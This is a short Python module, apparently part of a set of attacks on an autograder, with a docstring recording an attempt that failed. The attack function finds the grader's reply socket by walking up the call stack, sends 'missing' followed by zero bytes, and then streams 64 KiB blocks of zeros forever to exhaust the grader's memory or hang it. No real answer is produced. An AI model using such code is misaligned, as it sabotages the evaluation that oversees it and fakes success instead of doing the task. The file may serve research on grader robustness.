"""Send sentences instead of answers.

Tries: an endless text after the word that says that a function is missing.
Success: the grader's memory fills, or it waits for the end.
Outcome: failed.
"""

import sys

from autograder.wire.encode import encode
from autograder.wire.limits import HEADER, MAGIC


def channel():
    """The socket on which the grader waits for the answer."""
    frame = sys._getframe()
    while "reply_to" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["reply_to"]


def frame_of(tree, blob=b""):
    """A message around any bytes."""
    return HEADER.pack(MAGIC, len(tree), len(blob)) + tree + blob


ANSWER = encode(("", None, (), "", "", 0))


def attack(targets, model):
    reply_to = channel()
    reply_to.sendall(b"missing " + bytes(900))
    while True:
        reply_to.sendall(bytes(1 << 16))
